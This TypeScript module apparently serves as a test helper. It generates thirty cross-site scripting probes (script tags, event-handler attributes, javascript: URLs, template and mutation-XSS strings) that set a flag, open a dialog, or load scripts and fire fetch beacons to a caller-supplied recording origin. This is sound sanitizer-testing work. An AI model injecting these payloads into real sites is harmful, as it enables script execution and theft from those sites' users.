/** The flag that most payloads set when they run. The others open a dialog or make a request to `foreign`. */
export const raised = 'injected'

/** Thirty texts that could be taken for code, markup or an address. `foreign`: an origin that records its visits. */
export function probesFor(foreign: string): readonly string[] {
  const run = `window.${raised}=1`
  const beacon = `fetch('${foreign}hit')`
  return [
    `<script>${run}</script>`,
    `"><script src="${foreign}a.js"></script>`,
    `<img src=x onerror="${run}">`,
    `<img src="${foreign}pixel.png">`,
    `'"><svg onload=${run}>`,
    `<svg><script href="${foreign}b.js"/></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<iframe srcdoc="<script>parent.${raised}=1</script>"></iframe>`,
    `<iframe src="javascript:parent.${raised}=1"></iframe>`,
    `<object data="${foreign}c.html"></object>`,
    `<embed src="${foreign}d.svg">`,
    `<link rel=stylesheet href="${foreign}e.css">`,
    `<style>@import "${foreign}f.css"; * { background: url(${foreign}g.png) }</style>`,
    `<base href="${foreign}">`,
    `<meta http-equiv=refresh content="0;url=${foreign}h">`,
    `<form action="${foreign}i"><button autofocus onfocus=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<details open ontoggle=${run}>`,
    `<video><source onerror=${run}></video>`,
    `<a href="javascript:${run}" autofocus onfocus=${run}>go</a>`,
    `javascript:${run}//`,
    `" onmouseover="${run}" x="`,
    `' autofocus onfocus='${run}' x='`,
    `</textarea></title></style></script><script>${run}</script>`,
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}\`-alert(1)-\``,
    `<%= ${run} %>#{${run}}`,
    `<math><mtext></p><style><img src=x onerror=${run}></style></math>`,
    `<!--><img src=x onerror="alert(1);${beacon}">-->`,
    `data:text/html,<script>${beacon}</script>`,
  ]
}
